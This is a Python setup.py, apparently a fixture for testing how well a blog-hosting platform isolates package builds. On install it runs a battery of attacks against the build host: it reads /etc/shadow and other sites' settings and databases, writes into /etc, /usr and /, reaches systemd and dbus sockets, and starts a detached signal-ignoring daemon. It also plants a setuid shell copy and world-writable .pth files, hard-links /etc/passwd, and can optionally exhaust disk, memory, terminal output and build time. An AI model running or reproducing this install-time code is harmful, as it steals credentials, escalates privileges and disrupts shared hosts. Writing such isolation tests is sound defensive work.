"""Attack the host from a build, once, and write the results into the environment: hostile.json.

A line in extra.txt asks for more: "deep" (directories without end), "loud" (output without end), "asleep" (a build that
never ends), "greedy" (memory without end).
"""

import json
import os
import signal
import socket
import sys
import time
from pathlib import Path

from setuptools import setup

#: /opt/NAME/venvs/ID: pip builds a folder in the place where it lies, /opt/NAME/venvs/ID/source/attacker.
VENV = Path(__file__).resolve().parents[2]
SITE = VENV.parts[2]
RESULTS = VENV / "hostile.json"

#: Writes the time into the environment until it is killed; it ignores other signals.
DAEMON = """
import os, signal, sys, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
for _ in range(3000):
    open(sys.argv[1], 'w').write(str(time.time()))
    time.sleep(0.2)
"""


def listed(pattern):
    """List what the build can see, of the host's folders."""
    return sorted(str(path) for path in Path("/").glob(pattern))


def read(path):
    return Path(path).read_bytes()[:20].decode("latin-1")


def write(path):
    Path(path).write_text("planted by a build\n")
    return f"wrote {path}"


def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect(path)
    return f"connected to {path}"


def processes():
    """List the processes of other accounts that the build sees."""
    mine = os.getuid()
    others = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{name}").st_uid != mine:
                others.append(name)
        except OSError:
            continue
    return others


def daemon():
    """Start a process that leaves the session, its parent and its output behind."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(devnull, number)
            os.execv(sys.executable, ["hostile-daemon", "-c", DAEMON, str(VENV / "heartbeat")])  # noqa: S606
        os._exit(0)
    os.wait()
    return "started"


def set_user_id():
    shell = VENV / "bin" / "root-shell"
    shell.write_bytes(Path("/bin/sh").read_bytes())
    shell.chmod(0o755)
    shell.chmod(0o6755)
    return oct(shell.stat().st_mode)


def writable():
    """Leave files that everybody can write: code that runs at each start of Python, and a program."""
    site_packages = next(VENV.glob("lib/python3*/site-packages"))
    (site_packages / "hostile.pth").write_text("import this\n")
    (site_packages / "hostile.pth").chmod(0o666)
    (VENV / "everybody").mkdir()
    (VENV / "everybody").chmod(0o1777)
    (VENV / "bin" / "everybody").write_text("#!/bin/sh\n")
    (VENV / "bin" / "everybody").chmod(0o777)
    VENV.chmod(0o777)
    return "left"


def access_list():
    """Give the accounts of blogs the right to write a file, in an access control list (acl(5))."""
    file = VENV / "listed"
    file.touch()
    entries = [(0x01, 6, 0xFFFFFFFF), *((0x02, 6, uid) for uid in range(970, 1000)), (0x04, 4, 0xFFFFFFFF)]
    entries += [(0x10, 6, 0xFFFFFFFF), (0x20, 4, 0xFFFFFFFF)]
    packed = b"".join(
        tag.to_bytes(2, "little") + bits.to_bytes(2, "little") + who.to_bytes(4, "little") for tag, bits, who in entries
    )
    os.setxattr(file, "system.posix_acl_access", b"\x02\0\0\0" + packed)
    return "left"


def fifo():
    os.mkfifo(VENV / "bin" / "fifo")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(VENV / "socket"))
    return "left"


def link(name, target):
    path = VENV / name
    path.unlink(missing_ok=True)
    path.symlink_to(target)
    return f"{name} -> {target}"


def hard_link():
    os.link("/etc/passwd", VENV / "passwd")
    return "left"


def deep():
    here = os.getcwd()
    os.chdir(VENV)
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
    return "left"


ATTACKS = {
    "data": lambda: listed("var/lib/*/*"),
    "database": lambda: read(f"/var/lib/{SITE}/database.db"),
    "releases": lambda: listed("opt/*/releases/*"),
    "environments of others": lambda: [path for path in listed("opt/*/venvs/*/*") if not path.startswith(str(VENV))],
    "settings of this blog": lambda: read(f"/etc/{SITE}/environment"),
    "settings of any blog": lambda: [read(path) for path in listed("etc/*/environment") if "security" not in path],
    "settings of any site": lambda: listed("etc/*/site.json"),
    "passwords": lambda: read("/etc/shadow"),
    "homes": lambda: [*listed("root/*"), *listed("home/*")],
    "caches of others": lambda: [
        path for path in listed("var/cache/*/*/*") if f"/{SITE}/" not in path and f"/{SITE}.tmp/" not in path
    ],
    "backups": lambda: listed("var/backups/*"),
    "runtime": lambda: listed("run/*"),
    "processes": processes,
    "the root of process 1": lambda: os.listdir("/proc/1/root"),
    "uid": lambda: os.getuid(),
    "groups": lambda: [os.getgid(), *os.getgroups()],
    "environment": lambda: sorted(os.environ),
    "write to /etc": lambda: write("/etc/planted-by-build"),
    "write to /usr": lambda: write("/usr/local/bin/planted-by-build"),
    "write beside the environment": lambda: write(VENV.parent / "planted-by-build"),
    "write to /": lambda: write("/planted-by-build"),
    "the bus": lambda: connect("/run/dbus/system_bus_socket"),
    "systemd": lambda: connect("/run/systemd/private"),
    "the journal": lambda: connect("/run/systemd/journal/stdout"),
    "daemon": daemon,
    "set-user-id": set_user_id,
    "writable": writable,
    "access list": access_list,
    "fifo": fifo,
    "mark": lambda: link(".complete.json", "/etc/planted-by-build"),
    "pip": lambda: link("bin/pip", "/usr/local/sbin/blogctl"),
    "hard link": hard_link,
}


def loud():
    """Print past pip, which keeps what it runs quiet: on the standard output of the unit's first process."""
    first = min(int(name) for name in os.listdir("/proc") if name.isdigit())
    began = time.monotonic()
    written = 0
    with open(f"/proc/{first}/fd/1", "wb") as output:
        while time.monotonic() - began < 3:
            written += output.write(b"\x1b[2J" * 10_000 + b"\n")
    return written


MORE = {
    "deep": deep,
    "loud": loud,
    "asleep": lambda: time.sleep(3600),
    "greedy": lambda: len(bytearray(1 << 40)),
}


def attempt(attack):
    """Return the result of an attack, or the error that stopped it."""
    try:
        return {"done": attack()}
    except Exception as error:
        return {"failed": f"{type(error).__name__}: {error}"}


if not RESULTS.exists() and VENV.parts[1:2] == ("opt",):
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    results = {name: attempt(attack) for name, attack in ATTACKS.items()}
    wanted = Path(__file__).with_name("extra.txt").read_text().split()
    RESULTS.write_text(json.dumps(results, indent=1, default=str))
    results |= {name: attempt(MORE[name]) for name in wanted}
    RESULTS.write_text(json.dumps(results, indent=1, default=str))

setup()
